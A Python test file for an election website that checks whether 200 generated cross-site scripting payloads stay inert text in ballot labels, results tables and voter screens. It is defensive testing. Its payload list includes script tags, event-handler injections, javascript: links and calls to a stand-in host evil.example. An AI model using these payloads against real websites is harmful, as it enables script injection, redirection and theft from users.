"""CL-03: whatever stands in a name, a question or an answer is shown as text, and no script of it runs."""

import json
from hashlib import sha256
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from engine.group import STANDARD
from engine.parameters import Election
from tests.engine.elections import a_ballot, a_manifest, hold_ceremony
from tests.web.hosting import a_page, site
from tests.web.site import Site as VotingSite
from tests.web.test_check_page import parts_of, slip_of

ID = "ab" * 32
RUN = (
    "alert(1)", "document.title='owned'", "fetch('//evil.example')", "top.location='//evil.example'", "import('//evil.example/a.js')",
    "window.owned=1", "self['owned']=1", "eval('owned=1')", "new Function('owned=1')()", "setTimeout('owned=1')",
)  # fmt: skip
AROUND = (
    "<script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>", "<iframe srcdoc='<script>%s</script>'>",
    "<a href='javascript:%s'>x</a>",
    "\"><script>%s</script>", "'-%s-'", "${%s}", "{{%s}}", "{count} {option} %s", "</textarea><script>%s</script>",
    "</title><script>%s</script>",
    "<math><mi xlink:href='javascript:%s'>", "<details open ontoggle=%s>", "<body onload=%s>", "<style>@import 'javascript:%s'</style>",
    "&lt;script&gt;%s&lt;/script&gt;", "<!--<script>%s</script>-->", "<base href='//evil.example/%s'>", "[x](javascript:%s)",
)  # fmt: skip
PAYLOADS = [around % run for around in AROUND for run in RUN]


@pytest.fixture(scope="module")
def election() -> Election:
    contests = [
        {"label": PAYLOADS[0], "selection_limit": "NO_LIMIT", "options": [{"label": each} for each in PAYLOADS]},
        *({"label": each, "options": [{"label": "Yes"}, {"label": "No"}]} for each in PAYLOADS[1::40]),
    ]
    styles = [{"label": PAYLOADS[1], "contests": list(range(1, 1 + len(contests)))}]
    voting = {"union": PAYLOADS[2], "scrutineer": PAYLOADS[30]}
    manifest = a_manifest(2, label=PAYLOADS[170], contests=contests, ballot_styles=styles, **voting)
    return hold_ceremony(2, 2, STANDARD, manifest).election


@pytest.fixture
def browser(chromium: Browser) -> Browser:
    return chromium


def nothing_ran(page: Page) -> bool:
    """Console and uncaught errors are looked at by `a_page`; a policy that had to step in would be one."""
    inside = page.locator("main").locator("script, img, iframe, style, base, math, a[href^=javascript]").count()
    return inside == 0 and page.evaluate("window.owned === undefined") and "owned" not in page.title().replace(PAYLOADS[170], "")


def test_cl03_200_payloads_are_text_on_the_page_that_checks(election: Election, browser: Browser) -> None:
    assert len(set(PAYLOADS)) == 200
    first = (1,) * len(PAYLOADS)
    others = [(1, 0)] * (len(election.manifest.contests) - 1)
    ballot, opening = a_ballot(election, first, *others, style=1)
    slip = slip_of(ballot, opening, *first, *(choice for each in others for choice in each))
    with site() as running, a_page(browser) as page:
        running.put("/api/v1/elections", json.dumps([{"election_id": ID}]))
        running.put(f"/api/v1/elections/{ID}", parts_of(election))
        page.goto(f"{running.origin}/check#{slip}")
        page.wait_for_selector(".psephos-code")
        assert page.locator(".govuk-summary-list").first.locator("dd").first.locator("p").all_text_contents() == PAYLOADS
        text = page.locator("main").text_content() or ""
        assert all(each in text for each in (PAYLOADS[2], PAYLOADS[30], PAYLOADS[170]))
        assert nothing_ran(page)
        assert all(asked.startswith(("/check", "/assets/", "/election.json", "/api/v1/elections")) for asked in running.asked)


def test_cl03_200_payloads_are_text_on_the_page_of_results(election: Election, browser: Browser) -> None:
    contests = election.manifest.contests
    files = {
        "election_manifest.json": election.manifest.content,
        "tally.json": json.dumps({"contests": [{"options": [{"tally": 1} for _ in each.options]} for each in contests]}).encode(),
        "totals.json": b'{"ballots":{"cast":1,"discounted":0,"challenged":0}}',
    }
    listed = [{"path": path, "bytes": len(content), "sha256": sha256(content).hexdigest().upper()} for path, content in files.items()]
    files |= {"profile.json": json.dumps({"files": listed}).encode(), "signature.json": b'{"date":"2026-11-21T12:00:00Z"}'}
    answer = {"record_hash": sha256(files["profile.json"]).hexdigest(), "key": PAYLOADS[9], "files": [{**listed[0], "path": PAYLOADS[8]}]}
    with site() as running, a_page(browser) as page:
        running.put("/api/v1/records", json.dumps([{"election_id": ID, "label": PAYLOADS[3], "union": PAYLOADS[4], "released": True}]))
        running.put(f"/api/v1/records/{ID}", json.dumps(answer))
        for path, content in files.items():
            running.put(f"/api/v1/records/{ID}/files/{path}", content)
        page.goto(f"{running.origin}/record")
        page.wait_for_selector("table")
        assert page.locator("table").first.locator("tbody th").all_text_contents() == PAYLOADS
        assert page.locator(".psephos-chart").first.locator(".psephos-bar__label").all_text_contents() == PAYLOADS
        assert page.locator(".psephos-files a").text_content() == PAYLOADS[8]
        assert nothing_ran(page)


def test_cl03_200_payloads_are_text_on_the_screens_of_the_voter(browser: Browser, tmp_path: Path) -> None:
    contests = [
        {"label": PAYLOADS[20 * number], "options": [{"label": each} for each in PAYLOADS[20 * number : 20 * number + 20]]}
        for number in range(10)
    ]
    styles = [{"label": PAYLOADS[1], "contests": list(range(1, 11))}]
    with VotingSite(tmp_path, contests=contests, styles=styles, label=PAYLOADS[170]) as service, a_page(browser) as page:
        page.goto(service.link())
        page.get_by_role("heading", name="About this ballot").wait_for()
        assert PAYLOADS[170] in (page.locator("main").text_content() or "")
        page.get_by_role("button", name="Start voting").click()
        for contest in contests:
            page.get_by_role("heading", level=1, name=str(contest["label"])).wait_for()
            assert page.locator(".govuk-radios__label").all_text_contents() == [each["label"] for each in contest["options"]]
            assert nothing_ran(page)
            page.locator("#option-20").check()
            page.get_by_role("button", name="Continue").click()
        page.get_by_role("heading", name="Check your answers").wait_for()
        assert page.locator("dt").all_text_contents() == [each["label"] for each in contests]
        assert nothing_ran(page)
